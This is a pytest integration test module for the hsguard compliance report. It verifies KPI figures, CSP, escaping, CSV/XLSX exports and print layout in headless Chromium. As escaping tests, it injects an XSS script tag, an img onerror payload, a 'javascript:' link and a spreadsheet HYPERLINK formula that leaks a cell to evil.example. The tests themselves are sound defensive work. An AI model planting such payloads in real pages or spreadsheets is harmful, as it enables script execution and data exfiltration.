"""The HTML compliance report and review queue, rendered from the report feeds of a
warehouse built by the real CLI; its figures must be the warehouse's (marts and audit).
The page is also tested in a real headless Chromium (one process for the module): the
queue's height follows the rows shown, the filter, search, sort and anchors work, the
print layout clips no column and Chromium prints it to PDF."""

from __future__ import annotations

import base64
import csv
import hashlib
import re
import shutil
import zipfile
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest

from hsguard.dbt import build_report_feeds
from hsguard.report_exports import DECISIONS, OVERRIDE_COLUMNS, QUEUE_COLUMNS
from hsguard.report_page import data_docs_complete, render_report, sku_anchor
from tests.chromium import Chromium, chromium_path

pytestmark = pytest.mark.integration

SECTIONS = ("summary", "kpis", "charts", "review-queue", "export-control", "data-quality", "run-metadata")
XSS = "<script>alert(1)</script>"
XSS_ATTR = '"><img src=x onerror="window.__xss=1">'
#: the flags of the review queue, as a view each query of the tests may read
OPEN_FLAGS_VIEW = (
    "create temp view open_flags as select * from marts.fct_classification_flags "
    "where not coalesce(is_overridden, false)"
)
#: A4 landscape less the report's @page margins (10 mm each side), in CSS pixels
PRINT_WIDTH = round((297 - 20) / 25.4 * 96)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


class _ReportParser(HTMLParser):
    """Collects element ids, data-kpi values and the SKUs of the review queue rows."""

    def __init__(self) -> None:
        super().__init__()
        self.ids: set[str] = set()
        self.kpis: dict[str, str] = {}
        self.queue_skus: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        self.tags.append((tag, a))
        if a.get("id"):
            self.ids.add(a["id"])
        if a.get("data-kpi"):
            self.kpis[a["data-kpi"]] = a.get("data-value") or ""
        if tag == "tr" and a.get("data-sku") is not None:
            self.queue_skus.append(a["data-sku"])


def parse(html: str) -> _ReportParser:
    parser = _ReportParser()
    parser.feed(html)
    return parser


def section(html: str, section_id: str) -> str:
    """The markup of one <section id=...> (sections are not nested)."""
    match = re.search(rf'<section id="{section_id}">(.*?)</section>', html, re.S)
    assert match, section_id
    return match.group(1)


def render(db: Path, out: Path, summary: dict, **kwargs) -> str:
    con = duckdb.connect(str(db), read_only=True)
    try:
        path = render_report(con, out, summary, **kwargs)
    finally:
        con.close()
    assert path == out / "report.html"
    return path.read_text(encoding="utf-8")


def scalar(db: Path, sql: str, params: list | None = None):
    """The first value of a query on the warehouse (``open_flags``: the queue's flags)."""
    return first_row(db, sql, params)[0]


def first_row(db: Path, sql: str, params: list | None = None) -> tuple:
    con = duckdb.connect(str(db), read_only=True)
    try:
        con.execute(OPEN_FLAGS_VIEW)
        return con.execute(sql, params or []).fetchone()
    finally:
        con.close()


def table_exists(db: Path, qualified: str) -> bool:
    schema, table = qualified.split(".")
    return bool(
        scalar(
            db,
            "select count(*) from information_schema.tables where table_schema = ? and table_name = ?",
            [schema, table],
        )
    )


def copy_warehouse(src: Path, tmp_path: Path) -> Path:
    """A private copy under the same file name (DuckDB's catalog name, which views refer to)."""
    dst = tmp_path / "wh" / src.name
    dst.parent.mkdir(parents=True)
    shutil.copy2(src, dst)
    return dst


def rebuild_feeds(db: Path, tmp_path: Path, run_id: str) -> None:
    """Rebuild the report feeds of a changed copy with real dbt, as the report stage does."""
    build_report_feeds(db, tmp_path / "dbt_work", run_id)


def read_queue_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def xlsx_part(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode("utf-8")


@pytest.fixture(scope="module")
def built(sample_run) -> dict:
    """The session's real `hsguard run` on the bundled sample: warehouse and summary."""
    return sample_run


@pytest.fixture(scope="module")
def report(built) -> dict:
    out = built["root"] / "rendered"
    html = render(built["warehouse"], out, built["summary"], data_docs_index=str(built["root"] / "docs.html"))
    return {"out": out, "html": html, "parsed": parse(html)}


def test_files_written(report):
    for name in ("report.html", "review_queue.csv", "review_queue.xlsx"):
        assert (report["out"] / name).stat().st_size > 0, name


def test_html_is_self_contained(report):
    html = report["html"]
    lowered = html.lower()
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S)
    assert len(scripts) == 1 and scripts[0][0] == ""  # one inline script (the queue's), no src
    digest = base64.b64encode(hashlib.sha256(scripts[0][1].encode("utf-8")).digest()).decode()
    csp = unescape(re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', html).group(1))
    assert f"script-src 'sha256-{digest}'" in csp and "default-src 'none'" in csp  # only that script runs
    assert "fetch(" not in scripts[0][1] and "XMLHttpRequest" not in scripts[0][1]
    assert "innerHTML" not in scripts[0][1]  # it never writes markup
    assert "<link" not in lowered and "@import" not in lowered and "@font-face" not in lowered
    assert not re.search(r"url\(\s*['\"]?\s*(https?:)?//", lowered)
    for tag, attrs in report["parsed"].tags:
        for attr in ("src", "srcset", "data"):
            assert not attrs.get(attr), (tag, attrs)
        if tag != "a" and attrs.get("href"):  # only in-page links and the Data Docs link navigate
            assert attrs["href"].startswith("#"), (tag, attrs)
    assert "<svg" in html
    assert "Content-Security-Policy" in html


def test_sections_and_charts_have_stable_ids(report):
    ids = report["parsed"].ids
    for section_id in SECTIONS:
        assert section_id in ids
    for chart_id in ("chart-flags-by-check", "chart-chapters", "chart-trend"):
        assert chart_id in ids
        fig = re.search(rf'<figure id="{chart_id}">(.*?)</figure>', report["html"], re.S).group(1)
        assert "<svg" in fig, chart_id


def test_kpis_equal_the_warehouse_counts(built, report):
    db, kpis = built["warehouse"], report["parsed"].kpis
    assert int(kpis["products"]) == scalar(db, "select count(*) from marts.dim_products")
    assert int(kpis["flags_total"]) == scalar(db, "select count(*) from marts.fct_classification_flags")
    assert int(kpis["queue_products"]) == scalar(db, "select count(distinct sku) from open_flags")
    con = duckdb.connect(str(db), read_only=True)
    by_severity = dict(
        con.execute("select severity, count(*) from marts.fct_classification_flags group by 1").fetchall()
    )
    con.close()
    assert by_severity
    for severity, n in by_severity.items():
        assert int(kpis[f"flags_{severity}"]) == n
    if table_exists(db, "marts.fct_product_risk"):
        expected = scalar(db, "select sum(trade_value_exposed_usd) from marts.fct_product_risk")
    else:
        expected = scalar(
            db,
            "select sum(cast(replace(value_usd, ',', '') as double)) from raw.erp_shipments "
            "where sku in (select sku from marts.fct_classification_flags)",
        )
    assert expected > 0
    assert float(kpis["trade_value_exposed_usd"]) == pytest.approx(expected, abs=0.01)
    quarantined = scalar(db, "select count(*) from audit.quarantine")
    assert quarantined > 0
    assert int(kpis["rows_quarantined"]) == quarantined
    kpi_html = section(report["html"], "kpis")
    assert f"{by_severity['high']:,}" in kpi_html and f"{expected:,.0f}" in kpi_html
    assert (
        '<span class="kpi-unit">USD</span>' in kpi_html and "$" not in kpi_html
    )  # the input currency, named


def test_key_figures_split_licences_overrides_and_reference_age(built, report):
    """Licence missing vs recorded vs undetermined, products to review vs fully
    overridden, and the reference data's age: each figure is the warehouse's."""
    db, kpis = built["warehouse"], report["parsed"].kpis
    det = "from marts.fct_license_determinations"
    missing = scalar(db, f"select count(*) {det} where is_missing_licence")
    recorded = scalar(db, f"select count(*) {det} where decision = 'license_required' and is_covered")
    undetermined = scalar(db, f"select count(*) {det} where decision = 'undetermined'")
    assert missing and recorded and undetermined  # the sample has all three
    assert int(kpis["licence_missing_lines"]) == missing
    assert int(kpis["licence_recorded_lines"]) == recorded
    assert int(kpis["licence_undetermined_lines"]) == undetermined
    queue = scalar(db, "select count(distinct sku) from open_flags")
    flagged = scalar(db, "select count(distinct sku) from marts.fct_classification_flags")
    assert int(kpis["queue_products"]) == queue
    assert int(kpis["overridden_products"]) == flagged - queue
    oldest = scalar(
        db,
        "select max(date_diff('day', cast(regexp_extract(edition, '[0-9]{4}-[0-9]{2}-[0-9]{2}') as date), "
        "cast(started_at as date))) from reports.rpt_reference_data cross join reports.rpt_run "
        "where regexp_matches(edition, '[0-9]{4}-[0-9]{2}-[0-9]{2}')",
    )
    assert int(kpis["reference_oldest_days"]) == oldest
    html = report["html"]
    if oldest > 90:  # the default reference_max_age_days
        assert 'id="reference-warning"' in html
    kpi_html = section(html, "kpis")
    for definition in (
        "no licence or licence",
        "recorded, not verified",
        "cannot decide",
        "reviewer decision",
    ):
        assert definition in kpi_html  # plain-word definitions beside the figures
    sentence = re.search(r"<p class=\"summary\" data-summary>(.*?)</p>", html, re.S).group(1)
    assert f"Tonight {queue:,} products need review" in sentence
    assert f"{missing:,} shipment lines need a licence" in sentence
    rows_in = scalar(db, "select sum(rows_in) from reports.rpt_input_files")
    quarantined = scalar(db, "select count(*) from audit.quarantine")
    assert f"{quarantined:,} of {rows_in:,} input rows were rejected" in sentence


def test_data_docs_are_linked_only_when_complete():
    figures = {"suites": {"value": 16.0}, "suites_reused": {"value": 0.0}}
    assert data_docs_complete(figures)
    assert not data_docs_complete(figures | {"suites_reused": {"value": 3.0}})
    assert not data_docs_complete({"suites": {"value": 0.0}, "suites_reused": {"value": 0.0}})


def test_gx_data_docs_are_published_beside_the_offline_report_folder(built):
    """GX Data Docs load their scripts and styles from CDNs; the report folder works offline,
    so it holds none: the run (every suite validated) published them in
    reports/data_docs/<run_id>/, and its report.html links them there."""
    folder = (built["reports"] / "latest").resolve()
    run_id = folder.name
    assert not (folder / "data_docs").exists()
    assert (built["reports"] / "data_docs" / run_id / "index.html").is_file()
    html = (folder / "report.html").read_text(encoding="utf-8")
    assert f'href="../data_docs/{run_id}/index.html"' in html
    for page in folder.rglob("*.htm*"):  # nothing in the report folder loads from the network
        assert not re.search(r"""(src|href)=["']?(https?:)?//""", page.read_text(encoding="utf-8")), page


def test_data_quality_and_metadata(built, report):
    html, summary = report["html"], built["summary"]
    dq = section(html, "data-quality")
    quarantined = scalar(built["warehouse"], "select count(*) from audit.quarantine")
    assert dq.count("<details><summary>show</summary>") == quarantined  # one per quarantined row
    nulled = scalar(built["warehouse"], "select count(*) from audit.field_rejections")
    assert nulled > 0 and f'data-dq="values_nulled" data-value="{nulled}"' in dq
    assert "unit_value_usd: not a number: n/a" in dq  # a bad optional value, nulled
    assert (
        'data-dq="expectations" data-value="{}"'.format(
            scalar(built["warehouse"], "select count(*) from audit.validation_results")
        )
        in dq
    )
    assert 'href="file://' in dq and "docs.html" in dq  # the GX Data Docs link
    meta = section(html, "run-metadata")
    assert summary["run_id"] in meta
    for ref in summary["reference"]:
        assert ref["edition"].replace(">", "&gt;") in meta
        assert f"{ref['rows_loaded']:,}" in meta


def test_review_queue_csv_and_xlsx(built, report):
    rows = read_queue_csv(report["out"] / "review_queue.csv")
    assert tuple(rows[0].keys()) == QUEUE_COLUMNS
    for column in OVERRIDE_COLUMNS:
        assert all(r[column] == "" for r in rows)
    db = built["warehouse"]
    open_products = scalar(db, "select count(distinct sku) from open_flags")
    skus = list(dict.fromkeys(r["sku"] for r in rows))
    assert len(skus) == open_products > 50  # the whole queue, not the first 50
    assert skus == report["parsed"].queue_skus  # same products, same order as the HTML
    keys = scalar(db, "select count(*) from (select distinct sku, check_code, scheme from open_flags)")
    assert len(rows) == keys
    ranks = [int(r["rank"]) for r in rows]
    assert ranks == sorted(ranks) and ranks[0] == 1
    sheet = xlsx_part(report["out"] / "review_queue.xlsx", "xl/worksheets/sheet1.xml")
    assert '<dataValidation type="list"' in sheet
    assert ",".join(DECISIONS) in sheet
    assert "<f>" not in sheet  # no formulas anywhere


def test_top_n_limits_the_queue(built, tmp_path):
    html = render(built["warehouse"], tmp_path, built["summary"], top_n=5)
    assert len(parse(html).queue_skus) == 5
    assert len({r["sku"] for r in read_queue_csv(tmp_path / "review_queue.csv")}) == 5


def test_data_is_escaped_and_spreadsheet_cells_neutralised(built, browser, tmp_path):
    db = copy_warehouse(built["warehouse"], tmp_path)
    con = duckdb.connect(str(db))
    skus = [
        r[0]
        for r in con.execute(
            "select distinct sku from marts.fct_classification_flags order by sku"
        ).fetchall()
    ]
    xss_sku, evidence_sku, formula_sku, attr_sku = skus[0], skus[1], skus[2], skus[3]
    con.execute("update marts.dim_products set description = ? where sku = ?", [XSS, xss_sku])
    con.execute("update marts.fct_classification_flags set evidence = ? where sku = ?", [XSS, evidence_sku])
    con.execute("update marts.dim_products set description = ? where sku = ?", [XSS_ATTR, attr_sku])
    con.execute(
        "update marts.fct_classification_flags set evidence = ?, declared_code = ? where sku = ?",
        [XSS_ATTR, XSS_ATTR, attr_sku],
    )
    con.execute("update marts.dim_products set description = ? where sku = ?", [FORMULA, formula_sku])
    con.close()
    rebuild_feeds(db, tmp_path, built["summary"]["run_id"])

    out = tmp_path / "out"
    html = render(db, out, built["summary"], data_docs_index="javascript:alert(1)", top_n=1000)
    assert XSS not in html and XSS_ATTR not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert html.lower().count("<script") == 1  # the page's own script only
    assert "<img" not in html.lower()
    assert "javascript:" not in html.lower()
    # in the browser: the payloads are text, also once the script has searched and sorted
    browser.load((out / "report.html").resolve().as_uri())
    browser.evaluate(
        "(() => { const q = document.getElementById('queue-search'); q.value = 'onerror';"
        " q.dispatchEvent(new Event('input')); const s = document.getElementById('queue-sort');"
        " s.value = 'sku'; s.dispatchEvent(new Event('change')); })()"
    )
    assert browser.evaluate("window.__xss === undefined && document.querySelectorAll('img').length === 0")
    assert browser.evaluate("document.getElementById('queue-count').dataset.shown") == "1"
    assert browser.evaluate(f"document.getElementById({sku_anchor(attr_sku)!r}).hidden") is False

    rows = read_queue_csv(out / "review_queue.csv")
    descriptions = {r["sku"]: r["description"] for r in rows}
    assert descriptions[formula_sku] == "'" + FORMULA
    assert descriptions[xss_sku] == XSS  # plain text in a CSV, but never a formula
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    strings = xlsx_part(out / "review_queue.xlsx", "xl/sharedStrings.xml")
    assert "'=HYPERLINK" in strings
    assert "<f>" not in xlsx_part(out / "review_queue.xlsx", "xl/worksheets/sheet1.xml")


def test_changed_marts_and_history_feed_their_sections(built, tmp_path):
    """Risk scores, licence determinations, embargo and screening flags, a previous run and
    flag history put in a copy reach every section once the feeds are rebuilt from it."""
    from flows.report import collect_summary

    db = copy_warehouse(built["warehouse"], tmp_path)
    run_id = built["summary"]["run_id"]
    previous = "20000101T000000Z-000000"
    con = duckdb.connect(str(db))
    shipments = con.execute(
        "select shipment_id, sku from raw.erp_shipments order by shipment_id limit 4"
    ).fetchall()
    embargo, screening = shipments[0], shipments[1]
    for (shipment_id, sku), check, title in (
        (embargo, "EMBARGOED_DESTINATION", "Embargoed destination"),
        (screening, "PARTY_SCREENING_HIT", "End user on a screening list"),
    ):
        con.execute(
            "insert into marts.fct_classification_flags by name select ? as flag_id, ? as sku, "
            "? as check_code, 'critical' as severity, 4 as severity_rank, ? as title, 'ECCN' as scheme, "
            "? as evidence, ? as shipment_id, ? as run_id",
            [f"test-{check}", sku, check, title, f"{check} evidence for {shipment_id}", shipment_id, run_id],
        )
    con.execute(
        "create or replace table marts.fct_product_risk as select sku, "
        "100.0 - row_number() over (order by sku) as risk_score, ['reason a', 'reason b'] as top_reasons, "
        "1000.0 as trade_value_exposed_usd, "
        "count(*) as open_flags, 0 as overridden_flags from marts.fct_classification_flags group by sku"
    )
    con.execute(
        "create or replace table marts.fct_license_determinations as "
        "select shipment_id, sku, '3A001' as eccn, 'CN' as destination_country, "
        "case when row_number() over (order by shipment_id) <= 3 then 'license_required' else 'nlr' end "
        "as decision, false as is_covered, decision = 'license_required' as is_missing_licence, "
        "'test' as evidence from raw.erp_shipments order by shipment_id limit 10"
    )
    con.execute(
        "insert into audit.run_history by name select ? as run_id, 'published' as status, "
        "started_at - interval 1 day as started_at, finished_at - interval 1 day as finished_at, "
        "flags_total - 2 as flags_total, flags_by_severity from audit.run_history where run_id = ?",
        [previous, run_id],
    )
    con.execute(
        "create or replace table audit.flag_history as select * from (values "
        "('fa', 'A', 'HS_MISSING', 'HTSUS', ?, ?, 'open'), "
        "('fb', 'B', 'HS_MISSING', 'HTSUS', ?, ?, 'open'), "
        "('fc', 'C', 'HS_UNKNOWN', 'HTSUS', ?, ?, 'open'), "
        "('fd', 'D', 'HS_UNKNOWN', 'HTSUS', ?, ?, 'resolved'), "
        "('fe', 'E', 'HS_MALFORMED', 'HTSUS', ?, ?, 'resolved'), "
        "('ff', 'F', 'HS_MISSING', 'HTSUS', ?, ?, 'open')) "
        "t(flag_id, sku, check_code, scheme, first_seen_run_id, last_seen_run_id, status)",
        [run_id, run_id] * 3 + [previous, previous] * 2 + [previous, run_id],
    )
    con.close()
    rebuild_feeds(db, tmp_path, run_id)

    summary = collect_summary(db, built["summary"])  # the report flow's own counts, from the copy
    html = render(db, tmp_path / "out", summary)
    parsed = parse(html)
    kpis = parsed.kpis
    assert int(kpis["flags_critical"]) == scalar(
        db, "select count(*) from marts.fct_classification_flags where severity = 'critical'"
    )
    assert int(kpis["flags_total"]) == scalar(db, "select count(*) from marts.fct_classification_flags")
    assert int(kpis["licence_missing_lines"]) == 3
    assert float(kpis["trade_value_exposed_usd"]) == scalar(
        db, "select sum(trade_value_exposed_usd) from marts.fct_product_risk"
    )
    assert (int(kpis["flags_new"]), int(kpis["flags_resolved"])) == (3, 2)
    for chart_id in ("chart-risk-distribution", "chart-new-resolved", "chart-licence-destinations"):
        fig = re.search(rf'<figure id="{chart_id}">(.*?)</figure>', html, re.S).group(1)
        assert "<svg" in fig, chart_id
    # the review queue follows the risk score: highest first
    top = scalar(db, "select sku from marts.fct_product_risk order by risk_score desc limit 1")
    assert parsed.queue_skus[0] == top
    export = section(html, "export-control")
    assert embargo[0] in export and screening[0] in export
    assert "EMBARGOED_DESTINATION evidence" in export and "license_required" in export
    rows = read_queue_csv(tmp_path / "out" / "review_queue.csv")
    assert any(r["candidates"] for r in rows) and any(r["risk_score"] for r in rows)


# --------------------------------------------------------------------------- in a real browser


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    """One headless Chromium for the module's browser tests (skipped where none is installed)."""
    binary = chromium_path()
    if binary is None:
        pytest.skip("chromium is not installed")
    chromium = Chromium(binary, tmp_path_factory.mktemp("chromium") / "profile")
    try:
        yield chromium
    finally:
        chromium.close()


@pytest.fixture
def page(browser, report):
    """The sample report loaded at 1400 px (filters cleared: a fresh load)."""
    browser.viewport(1400, 900)
    browser.load((report["out"] / "report.html").resolve().as_uri())
    return browser


def set_filter(page, **values) -> int:
    """Set queue controls (search=, severity=, check=, scheme=) as a user does; rows shown."""
    for name, value in values.items():
        page.evaluate(
            f"(() => {{ const el = document.getElementById('queue-{name}'); el.value = {value!r};"
            " el.dispatchEvent(new Event('input')); })()"
        )
    return int(page.evaluate("document.getElementById('queue-count').dataset.shown"))


def shown_skus(page) -> list[str]:
    return page.evaluate(
        "Array.from(document.querySelectorAll('#queue tbody tr:not([hidden])'), r => r.dataset.sku)"
    )


def heights(page) -> tuple[float, float]:
    """(page height, queue table height) in CSS pixels."""
    return tuple(
        page.evaluate(
            "[document.documentElement.scrollHeight,"
            " document.getElementById('queue').getBoundingClientRect().height]"
        )
    )


def test_page_height_follows_the_rows_shown(built, page):
    """At 1400 px (and 1024 px) each queue row takes a few lines, not a column of evidence:
    the page grows by a bounded height per row shown, and shrinks when the filter hides rows."""
    n = scalar(built["warehouse"], "select count(distinct sku) from open_flags")
    assert int(page.evaluate("document.getElementById('queue-count').dataset.shown")) == n
    full_page, full_queue = heights(page)
    assert set_filter(page, search="no product has this text") == 0
    empty_page, empty_queue = heights(page)
    per_row = (full_page - empty_page) / n
    assert 20 < per_row < 130, per_row  # was ~1,500 px per row with an 80 px evidence column
    assert full_queue - empty_queue == pytest.approx(full_page - empty_page, abs=2)
    severity = page.evaluate("document.getElementById('queue-severity').options[1].value")
    k = set_filter(page, search="", severity=severity)
    assert 0 < k < n
    part_page, _ = heights(page)
    assert 20 < (part_page - empty_page) / k < 130
    assert empty_page < part_page < full_page
    page.viewport(1024, 900)
    set_filter(page, severity="")
    narrow_page, _ = heights(page)
    set_filter(page, search="no product has this text")
    assert (narrow_page - heights(page)[0]) / n < 200  # was ~2,700 px per row at 1024 px
    assert page.evaluate("document.documentElement.scrollWidth") <= 1024  # no sideways scrolling


def test_filter_search_sort_and_anchors(built, page):
    db = built["warehouse"]
    n = scalar(db, "select count(distinct sku) from open_flags")
    check, with_check = first_row(
        db, "select check_code, count(distinct sku) from open_flags group by 1 order by 2 desc, 1 limit 1"
    )
    assert 0 < with_check < n
    assert set_filter(page, check=check) == with_check
    assert all(
        check in page.evaluate(f"document.getElementById({sku_anchor(sku)!r}).dataset.checks").split()
        for sku in shown_skus(page)[:5]
    )
    assert page.evaluate("document.getElementById('queue-count').textContent") == (
        f"Showing {with_check:,} of {n:,} products"
    )
    scheme = page.evaluate("document.getElementById('queue-scheme').options[1].value")
    both = scalar(
        db,
        "select count(*) from (select sku from open_flags group by sku having bool_or(check_code = ?) "
        "and bool_or(scheme = ?))",
        [check, scheme],
    )
    assert set_filter(page, scheme=scheme) == both
    # search: one SKU, case-insensitive, whatever else is set
    sku = shown_skus(page)[0] if both else None
    page.evaluate("document.getElementById('queue-reset').click()")
    assert len(shown_skus(page)) == n
    target = sku or report_sku(db)
    assert set_filter(page, search=target.lower()) == 1 and shown_skus(page) == [target]
    # search reaches the folded evidence: every product whose evidence holds the word is shown
    word = "ruling"
    with_word = scalar(db, "select count(distinct sku) from open_flags where lower(evidence) like '%ruling%'")
    assert with_word
    shown = set_filter(page, search=word)
    assert shown >= with_word
    # sort by trade value exposed: highest first among the rows shown
    page.evaluate(
        "(() => { const s = document.getElementById('queue-sort'); s.value = 'value';"
        " s.dispatchEvent(new Event('change')); })()"
    )
    values = page.evaluate(
        "Array.from(document.querySelectorAll('#queue tbody tr:not([hidden])'),"
        " r => Number(r.dataset.value || -1))"
    )
    assert len(values) == shown and values == sorted(values, reverse=True)
    # a link to a product's anchor shows it even when the filter hid it
    hidden = page.evaluate("document.querySelector('#queue tbody tr[hidden]').id")
    page.evaluate(f"window.location.hash = {hidden!r}")
    page.evaluate("new Promise(r => setTimeout(r, 50))")
    assert page.evaluate(f"document.getElementById({hidden!r}).hidden") is False
    assert hidden == sku_anchor(page.evaluate(f"document.getElementById({hidden!r}).dataset.sku"))


def report_sku(db: Path) -> str:
    return scalar(db, "select min(sku) from open_flags")


def test_print_layout_clips_no_column_and_prints_to_pdf(built, page, tmp_path):
    """In print (A4 landscape, as the page's @page says) every check is opened, nothing is
    wider than the page, no table cell overflows (no clipped column), the run id is
    printed dark on white; Chromium's print-to-PDF gives a document of bounded length."""
    run_id = built["summary"]["run_id"]
    n = scalar(built["warehouse"], "select count(distinct sku) from open_flags")
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    page.viewport(PRINT_WIDTH, 700, "print")
    assert page.evaluate("Array.from(document.querySelectorAll('#queue details')).every(d => d.open)")
    assert page.evaluate("document.documentElement.scrollWidth") <= PRINT_WIDTH
    overflowing = page.evaluate(
        "Array.from(document.querySelectorAll('table th, table td'))"
        ".filter(c => c.scrollWidth > c.clientWidth + 1"
        " || c.getBoundingClientRect().right > window.innerWidth + 1)"
        ".map(c => c.textContent.slice(0, 60))"
    )
    assert overflowing == []
    assert page.evaluate("getComputedStyle(document.querySelector('.queue-tools')).display") == "none"
    evidence = page.evaluate(
        "Array.from(document.querySelectorAll('#queue .check-body')).filter(b => b.offsetHeight > 0).length"
    )
    assert evidence == page.evaluate("document.querySelectorAll('#queue .check-body').length") > n
    assert page.evaluate("document.querySelector('[data-run-id]').textContent") == run_id
    assert (
        page.evaluate("getComputedStyle(document.querySelector('[data-run-id]')).color")
        != "rgb(255, 255, 255)"
    )
    assert f'content: "hsguard report · run {run_id}"' in page.evaluate(
        "document.querySelector('style').textContent"
    )
    pdf = page.pdf()
    (tmp_path / "report.pdf").write_bytes(pdf)
    assert pdf.startswith(b"%PDF-")
    pages = len(re.findall(rb"/Type\s*/Page[^s]", pdf))
    assert 5 < pages <= 1.5 * n + 20, pages  # 149 pages for 50 products, columns cut, before
    assert b"/MediaBox [0 0 841.9" in pdf  # A4 landscape
    page.evaluate("window.dispatchEvent(new Event('afterprint'))")


def test_screenshots_of_the_top_and_the_queue(page, tmp_path):
    top = page.screenshot(1400, 1000)
    y = int(
        page.evaluate("document.getElementById('review-queue').getBoundingClientRect().top + window.scrollY")
    )
    queue = page.screenshot(1400, 900, y)
    for png in (top, queue):
        assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 10_000
